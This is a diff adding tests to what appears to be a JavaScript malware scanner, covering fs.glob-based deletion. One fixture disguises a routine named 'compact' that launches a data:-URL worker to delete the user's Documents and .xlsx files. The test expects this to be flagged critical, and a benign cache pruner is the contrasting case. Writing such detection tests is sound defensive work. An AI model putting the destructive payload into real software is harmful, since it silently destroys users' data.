@@ -576,3 +576,34 @@ new Thread(new URL('data:text/javascript,' + encodeURIComponent(job)));`,
     expect(threats(r).map((f) => f.rule)).toContain('js.exec-download-pipe-shell');
   });
 });
+
+describe('fs.glob listings (Node 22) and worker data', () => {
+  it('a worker from a data: address deletes what fs.glob lists in the home folder it is given', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ type: 'module' }),
+      'index.js': `import { Worker } from 'node:worker_threads';
+import { homedir } from 'node:os';
+const body = [
+  "import { workerData as w } from 'node:worker_threads';",
+  "import * as fsp from 'node:fs/promises';",
+  'for (const rel of await Array.fromAsync(fsp.glob(w.pats, { cwd: w.base }))) await fsp.rm(w.base + "/" + rel);',
+].join('\\n');
+export function compact() {
+  new Worker(new URL('data:text/javascript,' + encodeURIComponent(body)), { workerData: { base: homedir(), pats: ['Documents/**', '**/*.xlsx'] } });
+}`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(threats(r).map((f) => f.rule)).toContain('js.destructive-user-data');
+  });
+  it('quiet: a cache pruner globbing cache folders in the project', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ type: 'module' }),
+      'index.js': `import { glob, rm } from 'node:fs/promises';
+import { join } from 'node:path';
+export async function prune(root = process.cwd()) {
+  for await (const rel of glob(['**/node_modules/.cache/**', '**/.turbo/**'], { cwd: root })) await rm(join(root, rel), { force: true });
+}`,
+    });
+    expect(strong(r)).toEqual([]);
+  });
+});
